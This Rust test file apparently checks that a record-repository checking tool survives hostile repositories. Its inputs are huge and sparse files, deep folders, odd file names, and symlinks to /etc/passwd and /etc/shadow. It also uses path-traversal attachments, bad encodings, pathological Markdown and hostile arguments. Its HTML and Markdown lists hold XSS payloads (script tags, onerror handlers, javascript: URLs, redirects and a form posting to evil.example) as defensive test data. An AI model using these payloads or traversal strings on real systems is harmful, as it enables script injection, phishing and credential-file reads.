//! Hostile repositories (issue #8), beyond the hostile file contents of
//! `hostile_input.rs`: huge and sparse files, 10,000-deep folders, deep unit hierarchies,
//! names with spaces, Chinese and control characters, symbolic links (loops, out of the
//! repository, `units` itself), attachments that climb out with `..`, other encodings,
//! hostile HTML and pathological Markdown, odd repository shapes, random trees and hostile
//! command lines.
//!
//! Every run goes through a deadline (60 s, then the test fails: a hang is a bug) and must
//! end in 0, 1 or 2 — never 101 (a panic) or a signal. Each test prints how many hostile
//! inputs it tried (`cargo test --test hostile_repos -- --nocapture | grep hostile`).

// Test helpers: a failure to read or write the test's own files is a failed test.
#![allow(clippy::expect_used, clippy::unwrap_used)]

mod common;

use std::path::Path;
use std::process::Command;

use common::{Output, Repo};

const NOTES: &str = "units/town/external/notes";
const AS_OF: &str = "2026-11-26";
const FORMATS: [&str; 5] = ["human", "short", "json", "github", "junit"];

fn tried(test: &str, inputs: usize) {
    eprintln!("hostile inputs: {inputs} ({test})");
}

#[track_caller]
fn assert_no_crash(out: &Output, what: &str) {
    assert!(
        (0..=2).contains(&out.code),
        "{what}: exit code {} (101 is a panic, -1 a signal)\nstderr:\n{}",
        out.code,
        out.stderr
    );
    assert!(!out.stderr.contains("panicked"), "{what}: {}", out.stderr);
}

/// `check` in every format (each output well formed), then `due` and `report`; returns
/// the JSON document of `check`.
#[track_caller]
fn every_command(repo: &Repo) -> (i32, serde_json::Value) {
    for format in FORMATS {
        let out = repo.run_timed(&["check", "--format", format, "--as-of", AS_OF, "--lang", "zh"]);
        assert_no_crash(&out, format);
        assert!(out.code <= 1, "check --format {format}: exit {}: {}", out.code, out.stderr);
        match format {
            "github" => {
                // A name with a line break must not start a second workflow command.
                assert!(out.stdout.lines().all(|l| l.starts_with("::")), "{}", out.stdout);
            }
            "junit" => assert!(xml_chars_only(&out.stdout), "{}", out.stdout),
            _ => {}
        }
    }
    for args in [
        &["due", "--as-of", AS_OF][..],
        &["due", "--format", "json", "--as-of", AS_OF],
        &["report", "--as-of", AS_OF],
        &["report", "--format", "json", "--as-of", AS_OF],
        &["report", "--format", "csv", "--as-of", AS_OF],
    ] {
        assert_no_crash(&repo.run_timed(args), &args.join(" "));
    }
    check_json(repo)
}

#[track_caller]
fn check_json(repo: &Repo) -> (i32, serde_json::Value) {
    let out = repo.run_timed(&["check", "--format", "json", "--as-of", AS_OF, "--lang", "en"]);
    assert_no_crash(&out, "check --format json");
    let value = serde_json::from_str(&out.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", out.stdout, out.stderr));
    (out.code, value)
}

fn lines(value: &serde_json::Value) -> Vec<String> {
    common::diagnostic_lines(value)
}

/// XML 1.0 allows no control characters but tab, line feed and carriage return.
fn xml_chars_only(text: &str) -> bool {
    text.chars().all(|c| !c.is_control() || matches!(c, '\t' | '\n' | '\r') || c > '\u{9f}')
}

fn record(title: &str) -> String {
    format!("+++\ntitle = \"{title}\"\n+++\n正文\n")
}

/// Builds `depth` nested folders named `name` under `rel`, each holding `files` (name,
/// content), with Python's `dir_fd` calls: a path 10,000 levels deep is longer than the
/// system lets any single path be, and a shell's `cd` re-walks the whole path each time.
#[track_caller]
fn nest(repo: &Repo, rel: &str, name: &str, depth: usize, files: &[(&str, &str)]) {
    let script = r#"
import os, sys, json
rel, name, depth, files = sys.argv[1], sys.argv[2], int(sys.argv[3]), json.loads(sys.argv[4])
os.makedirs(rel, exist_ok=True)
fd = os.open(rel, os.O_RDONLY)
for _ in range(depth):
    os.mkdir(name, dir_fd=fd)
    child = os.open(name, os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = child
    for file, text in files:
        f = os.open(file, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(f, text.encode())
        os.close(f)
"#;
    let files = serde_json::to_string(files).unwrap_or_default();
    let status = Command::new("python3")
        .args(["-c", script, rel, name, &depth.to_string(), &files])
        .current_dir(repo.path())
        .status()
        .unwrap_or_else(|e| panic!("python3: {e}"));
    assert!(status.success(), "nest {rel}/{name} × {depth}");
}

/// Removes a tree whose paths are too long for `std::fs::remove_dir_all` to reach.
fn remove_deep(repo: &Repo, rel: &str) {
    let _ = Command::new("rm").args(["-rf", rel]).current_dir(repo.path()).status();
}

// ---- size ------------------------------------------------------------------------------

const MIB: usize = 1024 * 1024;
const LIMIT: usize = 10 * MIB;

#[test]
fn files_over_the_size_limit_are_refused_without_reading_them() {
    let repo = Repo::fixture("valid/minimal");
    // Exactly the limit is read and checked; one byte more is refused.
    let head = "+++\ntitle = \"x\"\n+++\n";
    let fill = |n: usize| format!("{head}{}", "a".repeat(n - head.len()));
    repo.write(&format!("{NOTES}/at-limit.md"), fill(LIMIT));
    repo.write(&format!("{NOTES}/over-limit.md"), fill(LIMIT + 1));
    // 50 MB of every kind of file gongkai reads.
    let fifty = "正文".repeat(50 * MIB / 6);
    repo.write(&format!("{NOTES}/fifty.toml"), format!("title = \"{fifty}\"\n"));
    repo.write("units/big/unit.toml", format!("name = \"{fifty}\"\n"));
    repo.write("units/town/requests/fifty.toml", &fifty);
    repo.write("catalogues/fifty.toml", &fifty);
    // A 4 GiB file that takes no disk: read, it would not fit in the memory cap below.
    let sparse = repo.path().join(NOTES).join("sparse.md");
    std::fs::File::create(&sparse).and_then(|f| f.set_len(4 << 30)).unwrap();
    // Run under a 1.5 GiB address-space cap: memory must not grow with the files.
    let mut capped = Command::new("bash");
    capped.args(["-c", "ulimit -v 1500000 && exec \"$0\" \"$@\"", common::BIN]);
    capped.args(["check", "--format", "json", "--as-of", AS_OF, "--lang", "en"]);
    let out = common::timed(capped, repo.path());
    assert_eq!(out.code, 1, "{}", out.stderr);
    let value: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let too_large: Vec<String> =
        lines(&value).into_iter().filter(|l| l.starts_with("file-too-large")).collect();
    assert_eq!(
        too_large,
        [
            "file-too-large catalogues/fifty.toml:-:-".to_owned(),
            "file-too-large units/big/unit.toml:-:-".to_owned(),
            format!("file-too-large {NOTES}/fifty.toml:-:-"),
            format!("file-too-large {NOTES}/over-limit.md:-:-"),
            format!("file-too-large {NOTES}/sparse.md:-:-"),
            "file-too-large units/town/requests/fifty.toml:-:-".to_owned(),
        ]
    );
    let message = value["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["file"] == format!("{NOTES}/over-limit.md"))
        .map(|d| d["message"].as_str().unwrap_or("").to_owned())
        .unwrap();
    assert_eq!(message, format!("file is too large ({} bytes, the limit is {LIMIT})", LIMIT + 1));
    tried("size", 7);
}

// ---- depth -----------------------------------------------------------------------------

#[test]
fn ten_thousand_nested_folders_are_reported_not_fatal() {
    let repo = Repo::fixture("valid/minimal");
    // Plain folders in a unit, and a chain of 10,000 units (each with its `unit.toml`).
    nest(&repo, "units/town", "d", 10_000, &[]);
    let unit = "name = \"层\"\nlevel = \"county\"\ncatalogues = []\n";
    repo.write("units/chain/unit.toml", unit);
    nest(&repo, "units/chain", "u", 10_000, &[("unit.toml", unit)]);
    let (code, value) = every_command(&repo);
    assert_eq!(code, 1);
    let found = lines(&value);
    let plain = format!("units/town/{}/d:-:-", vec!["d"; 63].join("/"));
    let chain = format!("units/chain/{}/u:-:-", vec!["u"; 63].join("/"));
    assert_eq!(found, [format!("too-deep {chain}"), format!("too-deep {plain}")]);
    // The 64 units of the chain above the limit are all there.
    assert_eq!(value["summary"]["units"], 1 + 64, "{:#}", value["summary"]);
    remove_deep(&repo, "units");
    tried("depth", 2);
}

#[test]
fn a_unit_hierarchy_sixty_levels_deep_checks_clean() {
    let repo = Repo::fixture("valid/minimal");
    let mut dir = "units/town".to_owned();
    for level in 0..60 {
        dir.push_str("/sub");
        repo.write(
            &format!("{dir}/unit.toml"),
            format!(
                "name = \"第{level}层\"\nlevel = \"county\"\ncode = \"{}\"\ncatalogues = [\"fixture\"]\n",
                321_000_000 + level
            ),
        );
    }
    repo.write(&format!("{dir}/external/notes/deepest.md"), record("最深"));
    let (code, value) = every_command(&repo);
    assert_eq!((code, lines(&value)), (0, vec![]), "{value:#}");
    assert_eq!(value["summary"]["units"], 61);
    tried("hierarchy", 1);
}

// ---- names -----------------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn names_with_spaces_chinese_and_control_characters() {
    let repo = Repo::fixture("valid/minimal");
    let names = [
        "2026 通知.md",
        "公告.md",
        "line\nbreak.md",
        "tab\there.md",
        "cr\rhere.md",
        "bell\u{7}.md",
        "<script>alert(1)<:script>.md",
        "quote\"s & 'apos'.md",
        "%0A::error file=x::.md",
        " leading-space.md",
        "trailing-space .md",
        "UPPER.md",
        "emoji-😀.md",
        "rtl-\u{202e}dm.exe.md",
        "zero\u{200b}width.md",
        &format!("{}.md", "长".repeat(80)),
    ];
    for name in names {
        repo.write(&format!("{NOTES}/{name}"), record("x"));
    }
    repo.write(
        "units/仙女 镇/unit.toml",
        "name = \"仙女镇\"\nlevel = \"county\"\ncatalogues = []\n",
    );
    repo.write("units/town/external/通 知/a.md", record("x"));
    let (code, value) = every_command(&repo);
    assert_eq!(code, 1, "{value:#}");
    let found = lines(&value);
    // Every odd name is named in a warning; the Chinese class folder is not a class.
    for name in names {
        let path = format!("{NOTES}/{name}");
        assert!(
            found.iter().any(|l| l.starts_with("not-slug ") && l.contains(&path)),
            "{name:?}: {found:#?}"
        );
    }
    assert!(found.iter().any(|l| l == "not-slug units/仙女 镇/unit.toml:1:1"), "{found:#?}");
    assert!(
        found.iter().any(|l| l == "unknown-class units/town/external/通 知/a.md:1:1"),
        "{found:#?}"
    );
    tried("names", names.len() + 2);
}

// ---- links -----------------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn symbolic_links_are_reported_never_followed() {
    use std::os::unix::fs::symlink;
    let repo = Repo::fixture("valid/minimal");
    let town = repo.path().join("units/town");
    std::fs::create_dir_all(town.join("files")).unwrap();
    let links: [(&str, &str); 9] = [
        ("loop", "."),
        ("up", ".."),
        ("root", "/"),
        ("self", "self"),
        ("dangling", "no/such/file"),
        ("external/notes/passwd.md", "/etc/passwd"),
        ("external/notes/twin.md", "2026-notice.md"),
        ("files/secret.pdf", "/etc/shadow"),
        ("files/etc", "/etc"),
    ];
    for (link, target) in links {
        symlink(target, town.join(link)).unwrap();
    }
    // An attachment through the linked folder is missing: the walk never entered it.
    repo.write(
        &format!("{NOTES}/b.md"),
        "+++\ntitle = \"b\"\nattachments = [\"../../files/etc/passwd\", \"../../files/secret.pdf\"]\n+++\n",
    );
    let (code, value) = every_command(&repo);
    assert_eq!(code, 1);
    let mut expected: Vec<String> =
        links.iter().map(|(link, _)| format!("symlink units/town/{link}:-:-")).collect();
    expected.push(format!("attachment-missing {NOTES}/b.md:3:16"));
    expected.push(format!("attachment-missing {NOTES}/b.md:3:42"));
    expected.sort();
    let mut found = lines(&value);
    found.sort();
    assert_eq!(found, expected);
    tried("links", links.len() + 2);
}

#[cfg(unix)]
#[test]
fn a_units_folder_that_is_a_link_is_not_walked() {
    // Regression (#8): walkdir follows the root it is given, so `units -> /` walked every
    // disk, and `units -> ../elsewhere` checked a tree outside the repository.
    let repo = Repo::fixture("valid/minimal");
    std::fs::remove_dir_all(repo.path().join("units")).unwrap();
    for target in ["/", "../elsewhere", "units"] {
        let _ = std::fs::remove_file(repo.path().join("units"));
        std::os::unix::fs::symlink(target, repo.path().join("units")).unwrap();
        let (code, value) = check_json(&repo);
        assert_eq!((code, lines(&value)), (1, vec!["symlink units:-:-".to_owned()]), "{target}");
    }
    tried("units-link", 3);
}

// ---- attachments -----------------------------------------------------------------------

#[test]
fn attachments_that_climb_out_or_hide_are_reported() {
    let repo = Repo::fixture("valid/minimal");
    for file in ["units/town/files/ok.pdf", "units/town/files/.hidden.pdf"] {
        repo.write(file, "%PDF-1.4\n");
    }
    repo.write("units/town/files/_draft.pdf", "%PDF-1.4\n");
    repo.write("units/other/unit.toml", "name = \"他\"\nlevel = \"county\"\ncatalogues = []\n");
    repo.write("units/other/files/x.pdf", "%PDF-1.4\n");
    repo.write(
        "units/town/child/unit.toml",
        "name = \"子\"\nlevel = \"county\"\ncatalogues = []\n",
    );
    repo.write("units/town/child/files/x.pdf", "%PDF-1.4\n");
    let climb = format!("{}etc/passwd", "../".repeat(10_000));
    let attachments: Vec<(&str, Option<&str>)> = vec![
        ("../../files/ok.pdf", None),
        ("../../files/./ok.pdf", None),
        ("../../files//ok.pdf", None),
        ("../../../../../../../../etc/passwd", Some("attachment-outside")),
        ("../../../other/files/x.pdf", Some("attachment-outside")),
        ("../../child/files/x.pdf", Some("attachment-outside")),
        ("/etc/passwd", Some("attachment-outside")),
        ("../../files/../../../gongkai.toml", Some("attachment-outside")),
        (&climb, Some("attachment-outside")),
        ("../../files/.hidden.pdf", Some("attachment-missing")),
        ("../../files/_draft.pdf", Some("attachment-missing")),
        ("../../files", Some("attachment-missing")),
        ("", Some("empty-value")),
        ("../../files/ok.pdf\\u0000", Some("attachment-missing")),
        ("../../files/%2e%2e/%2e%2e/x.pdf", Some("attachment-missing")),
        ("../../files/ok.pdf\\n", Some("attachment-missing")),
        ("../../unit.toml", Some("attachment-missing")),
        ("2026-notice.md", Some("attachment-missing")),
    ];
    let list: Vec<String> = attachments.iter().map(|(a, _)| format!("  \"{a}\",\n")).collect();
    repo.write(
        &format!("{NOTES}/a.md"),
        format!("+++\ntitle = \"a\"\nattachments = [\n{}]\n+++\n", list.concat()),
    );
    let (code, value) = every_command(&repo);
    assert_eq!(code, 1);
    let expected: Vec<String> = attachments
        .iter()
        .enumerate()
        .filter_map(|(i, (_, code))| code.map(|c| format!("{c} {NOTES}/a.md:{}:3", i + 4)))
        .collect();
    assert_eq!(lines(&value), expected);
    tried("attachments", attachments.len());
}

// ---- encodings -------------------------------------------------------------------------

#[test]
fn other_encodings_are_not_utf8_diagnostics_at_the_first_bad_byte() {
    let repo = Repo::fixture("valid/minimal");
    let utf16 = |big: bool| -> Vec<u8> {
        let mut out = if big { vec![0xFE, 0xFF] } else { vec![0xFF, 0xFE] };
        for unit in "+++\ntitle = \"标题\"\n+++\n".encode_utf16() {
            out.extend(if big { unit.to_be_bytes() } else { unit.to_le_bytes() });
        }
        out
    };
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("utf16le.md", utf16(false), "1:1"),
        ("utf16be.md", utf16(true), "1:1"),
        // 标题 in GBK, the encoding of many Chinese office machines.
        ("gbk.md", b"+++\ntitle = \"\xb1\xea\xcc\xe2\"\n+++\n".to_vec(), "2:10"),
        ("latin1.toml", b"title = \"caf\xe9\"\n".to_vec(), "1:13"),
        ("overlong.md", b"+++\ntitle = \"\xc0\xaf\"\n+++\n".to_vec(), "2:10"),
        ("surrogate.md", b"+++\ntitle = \"\xed\xa0\x80\"\n+++\n".to_vec(), "2:10"),
        ("five-byte.toml", b"title = \"\xf8\x88\x80\x80\x80\"\n".to_vec(), "1:10"),
        ("continuation.toml", b"title = \"\x80\"\n".to_vec(), "1:10"),
        ("truncated.md", "+++\ntitle = \"标\"\n+++\n标".as_bytes()[..24].to_vec(), "4:1"),
        ("after-chinese.toml", b"title = \"\xe6\xa0\x87\xff\"\n".to_vec(), "1:11"),
    ];
    for (name, bytes, _) in &cases {
        repo.write(&format!("{NOTES}/{name}"), bytes);
    }
    repo.write("units/gbk/unit.toml", b"name = \"\xcf\xc9\xc5\xae\xd5\xf2\"\n");
    let (code, value) = every_command(&repo);
    assert_eq!(code, 1);
    let mut expected: Vec<String> =
        cases.iter().map(|(name, _, at)| format!("not-utf8 {NOTES}/{name}:{at}")).collect();
    expected.push("not-utf8 units/gbk/unit.toml:1:9".to_owned());
    expected.sort();
    let mut found = lines(&value);
    found.sort();
    assert_eq!(found, expected);
    tried("encodings", cases.len() + 1);
}

// ---- HTML and Markdown -----------------------------------------------------------------

/// Raw HTML an attacker (or a careless paste from a word processor) puts in a body.
const HOSTILE_HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<a href=\"javascript:alert(1)\">点击</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"  java\tscript:alert(1)\">x</a>",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example/\"><input name=身份证号></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "text <b onmouseover=alert(1)>inline</b> text",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    "- item\n\n  <script>alert(1)</script>",
    "> <iframe src=javascript:alert(1)>",
    "正文[^1]\n\n[^1]: <script>alert(1)</script>",
];

/// Hostile Markdown without raw HTML: sanitised when the site is built, no warning now.
const HOSTILE_MARKDOWN: &[&str] = &[
    "[点击](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](  javascript:alert(1)  )",
    "![x](javascript:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](\"onmouseover=alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=alert(1)// (no closing bracket: text, not HTML)",
];

#[test]
fn hostile_html_is_a_raw_html_warning_and_markdown_is_left_to_the_sanitiser() {
    let repo = Repo::fixture("valid/minimal");
    for (i, body) in HOSTILE_HTML.iter().enumerate() {
        repo.write(
            &format!("{NOTES}/html-{i:02}.md"),
            format!("+++\ntitle = \"h\"\n+++\n{body}\n"),
        );
    }
    for (i, body) in HOSTILE_MARKDOWN.iter().enumerate() {
        repo.write(&format!("{NOTES}/md-{i:02}.md"), format!("+++\ntitle = \"m\"\n+++\n{body}\n"));
    }
    // The same in `.toml` bodies, and in titles and typed fields (escaped when rendered).
    repo.write(
        &format!("{NOTES}/toml-body.toml"),
        "title = \"<script>alert(1)</script>\"\namount = 1\nbody = \"\"\"\n<img src=x onerror=alert(1)>\n\"\"\"\n",
    );
    let (code, value) = every_command(&repo);
    assert_eq!(code, 0, "{value:#}");
    let found = lines(&value);
    let mut expected: Vec<String> = (0..HOSTILE_HTML.len())
        .map(|i| format!("{NOTES}/html-{i:02}.md"))
        .chain([format!("{NOTES}/toml-body.toml")])
        .collect();
    expected.sort();
    let mut warned: Vec<String> = found
        .iter()
        .filter(|l| l.starts_with("raw-html "))
        .map(|l| l["raw-html ".len()..].split(':').next().unwrap_or("").to_owned())
        .collect();
    warned.sort();
    assert_eq!(warned, expected, "{found:#?}");
    assert!(found.iter().all(|l| l.starts_with("raw-html ")), "{found:#?}");
    tried("html", HOSTILE_HTML.len() + HOSTILE_MARKDOWN.len() + 1);
}

#[test]
fn pathological_markdown_is_checked_in_time() {
    // Inputs that make naive Markdown parsers quadratic or recurse without bound, each
    // just under the size limit or large enough to show it.
    let repo = Repo::fixture("valid/minimal");
    let bodies: Vec<(&str, String)> = vec![
        ("quotes", ">".repeat(1_000_000)),
        ("lists", (0..3000).map(|i| format!("{}- x\n", " ".repeat(2 * i))).collect()),
        ("emphasis", "*a".repeat(1_000_000)),
        ("nested-emphasis", format!("{}x{}", "*_".repeat(500_000), "_*".repeat(500_000))),
        ("brackets", "[".repeat(2_000_000)),
        ("links", "[a](b".repeat(500_000)),
        ("images", "![".repeat(1_000_000)),
        ("html-open", "<div>".repeat(500_000)),
        ("angles", "<".repeat(2_000_000)),
        ("backticks", "`".repeat(2_000_000)),
        ("backtick-runs", (1..2000).map(|n| "`".repeat(n) + "x").collect()),
        ("entities", "&#x".repeat(1_000_000)),
        ("autolinks", "<http://a".repeat(500_000)),
        ("table", format!("{}\n{}\n{}", "|a".repeat(5000), "|-".repeat(5000), "|x".repeat(5000))),
        (
            "footnotes",
            (0..100_000).map(|i| format!("[^{i}]")).collect::<String>()
                + "\n\n"
                + &(0..1000).map(|i| format!("[^{i}]: x\n")).collect::<String>(),
        ),
        (
            "references",
            (0..100_000).map(|i| format!("[{i}]: /u{i}\n")).collect::<String>()
                + &(0..100_000).map(|i| format!("[{i}]")).collect::<String>(),
        ),
        ("headings", "#".repeat(2_000_000)),
        ("line-breaks", "a  \n".repeat(2_000_000)),
        ("setext", "a\n=\n".repeat(1_000_000)),
        ("fences", "```\n".repeat(1_000_000)),
    ];
    for (name, body) in &bodies {
        assert!(body.len() < LIMIT, "{name} is over the limit");
        repo.write(&format!("{NOTES}/{name}.md"), format!("+++\ntitle = \"x\"\n+++\n{body}"));
    }
    // Two runs, not every command: each run parses 20 large bodies.
    let start = std::time::Instant::now();
    let human = repo.run_timed(&["check", "--as-of", AS_OF]);
    assert_no_crash(&human, "check");
    let (code, value) = check_json(&repo);
    assert!(code <= 1, "{value:#}");
    eprintln!("pathological Markdown: two checks in {:?}", start.elapsed());
    tried("markdown", bodies.len());
}

// ---- shapes ----------------------------------------------------------------------------

/// A case: its name, a change to the minimal repository, and the exit code it must give.
type Shape<'a> = (&'a str, &'a dyn Fn(&Repo), i32);

#[test]
fn odd_repository_shapes_end_in_a_diagnostic_or_a_fatal_error() {
    // Each case: a change to the minimal repository, and the exit code it must give.
    let cases: Vec<Shape<'_>> = vec![
        (
            "gongkai.toml is a folder",
            &|r: &Repo| {
                r.remove("gongkai.toml");
                std::fs::create_dir(r.path().join("gongkai.toml")).unwrap();
            },
            2,
        ),
        (
            "units is a file",
            &|r: &Repo| {
                r.remove("units");
                r.write("units", "x");
            },
            0,
        ),
        (
            "catalogues is a file",
            &|r: &Repo| {
                r.remove("catalogues");
                r.write("catalogues", "x");
            },
            1,
        ),
        (
            "unit.toml is a folder",
            &|r: &Repo| {
                r.remove("units/town/unit.toml");
                std::fs::create_dir(r.path().join("units/town/unit.toml")).unwrap();
            },
            1,
        ),
        (
            "external is a file",
            &|r: &Repo| {
                r.remove("units/town/external");
                r.write("units/town/external", "x");
            },
            1,
        ),
        (
            "a class is a file",
            &|r: &Repo| {
                r.remove(NOTES);
                r.write(NOTES, "x");
            },
            1,
        ),
        (
            "files is a file",
            &|r: &Repo| {
                r.write("units/town/files", "x");
            },
            1,
        ),
        (
            "requests is a file",
            &|r: &Repo| {
                r.write("units/town/requests", "x");
            },
            1,
        ),
        (
            "an empty units folder",
            &|r: &Repo| {
                r.remove("units");
                std::fs::create_dir(r.path().join("units")).unwrap();
            },
            0,
        ),
        (
            "a record folder named like a record",
            &|r: &Repo| {
                std::fs::create_dir(r.path().join(NOTES).join("folder.md")).unwrap();
            },
            0,
        ),
        (
            "a unit inside a class",
            &|r: &Repo| {
                r.write(&format!("{NOTES}/sub/unit.toml"), "name = \"x\"\nlevel = \"county\"\n");
            },
            1,
        ),
        (
            "a unit inside files",
            &|r: &Repo| {
                r.write("units/town/files/sub/unit.toml", "name = \"x\"\nlevel = \"county\"\n");
            },
            0,
        ),
        (
            "reserved names as units",
            &|r: &Repo| {
                r.write(
                    "units/external/unit.toml",
                    "name = \"x\"\nlevel = \"county\"\ncatalogues = []\n",
                );
                r.write(
                    "units/files/unit.toml",
                    "name = \"x\"\nlevel = \"county\"\ncatalogues = []\n",
                );
            },
            0,
        ),
    ];
    for (what, change, exit) in &cases {
        let repo = Repo::fixture("valid/minimal");
        change(&repo);
        let out = repo.run_timed(&["check", "--format", "json", "--as-of", AS_OF]);
        assert_no_crash(&out, what);
        assert_eq!(out.code, *exit, "{what}: {}{}", out.stdout, out.stderr);
    }
    tried("shapes", cases.len());
}

/// A small deterministic generator (xorshift64*), so failures can be replayed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() % items.len() as u64) as usize]
    }
}

#[test]
fn random_repository_trees_never_crash() {
    const FOLDERS: &[&str] = &[
        "external",
        "internal",
        "files",
        "requests",
        "notes",
        "ledger",
        "town",
        "village",
        "仙女 镇",
        ".hidden",
        "_draft",
        "a-b",
        "x",
        "notes.md",
    ];
    const FILES: &[&str] = &[
        "unit.toml",
        "unit.toml",
        "r.md",
        "r.toml",
        "2026-a.md",
        "x.pdf",
        ".gitkeep",
        "_x.md",
        "公告.md",
        "gongkai.toml",
        "README",
    ];
    const CONTENTS: &[&str] = &[
        "name = \"x\"\nlevel = \"village\"\n",
        "name = \"x\"\nlevel = \"township\"\ncode = \"321012100\"\n",
        "name = \"x\"\nlevel = \"county\"\ncatalogues = [\"fixture\"]\ncode = \"321012101\"\n",
        "+++\ntitle = \"x\"\npublished = 2026-03-18\nreviewed_by = \"张\"\nreviewed_on = 2026-03-16\n+++\n",
        "+++\ntitle = \"x\"\nattachments = [\"../../files/x.pdf\", \"../../../x\"]\n+++\n<b>x</b>",
        "title = \"x\"\nbody = \"身份证 11010519491231002X\"\n",
        "received = 2026-03-02\nchannel = \"网上申请\"\n",
        "+++\n",
        "",
        "\u{feff}",
        "[[feedback]]\nreceived = 2026-03-20\n",
    ];
    let mut rng = Rng(0x0BAD_C0DE_5EED_0008);
    let mut inputs = 0;
    for _ in 0..12 {
        let repo = Repo::fixture("valid/minimal");
        for _ in 0..30 {
            let depth = 1 + rng.next() % 5;
            let mut path = "units".to_owned();
            for _ in 0..depth {
                path.push('/');
                path.push_str(rng.pick(FOLDERS));
            }
            let file = format!("{path}/{}", rng.pick(FILES));
            if repo.path().join(&file).is_dir() || repo.path().join(&path).is_file() {
                continue;
            }
            if std::fs::create_dir_all(repo.path().join(&path)).is_err() {
                continue;
            }
            let _ = std::fs::write(repo.path().join(&file), rng.pick(CONTENTS));
            inputs += 1;
        }
        every_command(&repo);
    }
    tried("trees", inputs);
}

// ---- command lines ---------------------------------------------------------------------

#[test]
fn hostile_command_lines_are_usage_errors() {
    let repo = Repo::fixture("valid/minimal");
    let outside = repo.path().parent().unwrap_or(Path::new("/")).join("gongkai-escape");
    let cases: &[(&[&str], i32)] = &[
        // Regression (#8): rayon starts every thread up front; `-j 100000` hung.
        (&["--jobs", "100000", "check"], 0),
        (&["--jobs", "99999999999", "check"], 0),
        (&["--jobs", "18446744073709551615", "check"], 0),
        (&["--jobs", "18446744073709551616", "check"], 2),
        (&["--jobs", "-1", "check"], 2),
        (&["check", "--as-of", "2026-02-30"], 2),
        (&["check", "--as-of", ""], 2),
        (&["check", "--as-of", "99999-01-01"], 2),
        (&["check", "--as-of", "-0001-01-01"], 2),
        (&["check", "--format", "xml"], 2),
        (&["check", "/no/such/folder"], 2),
        (&["check", "/dev/null"], 2),
        (&["due", "--unit", "../../etc"], 2),
        (&["new", "../../..", "notes", "x"], 2),
        (&["new", "town", "../../../../x", "x"], 2),
        (&["new", "town", "notes", "x", "--slug", "../../x"], 2),
        (&["new", "town", "notes", "../../../../../../x"], 0),
        (&["new", "town", "notes", "\u{202e}\n\r\t<script>"], 0),
        (&["new", "town", "notes", ""], 2),
    ];
    for (args, exit) in cases {
        let out = repo.run_timed(args);
        assert_no_crash(&out, &args.join(" "));
        assert_eq!(out.code, *exit, "{args:?}: {}", out.stderr);
    }
    // What `new` wrote checks without a syntax error, whatever the title was.
    let (_, value) = check_json(&repo);
    assert!(lines(&value).iter().all(|l| !l.starts_with("toml-syntax")), "{value:#}");
    // `new` never writes outside the unit's class folder, whatever the title.
    assert!(!outside.exists());
    let written: Vec<String> = walk(repo.path())
        .into_iter()
        .filter(|p| {
            !p.starts_with("units/town/external/notes/") && !p.starts_with("units/town/unit")
        })
        .filter(|p| p != "gongkai.toml" && p != "catalogues/fixture.toml")
        .collect();
    assert!(written.is_empty(), "{written:?}");
    tried("command lines", cases.len());
}

/// Every file under `root`, relative, with `/`.
fn walk(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if let Ok(rel) = path.strip_prefix(root) {
                out.push(rel.to_string_lossy().replace('\\', "/"));
            }
        }
    }
    out.sort();
    out
}
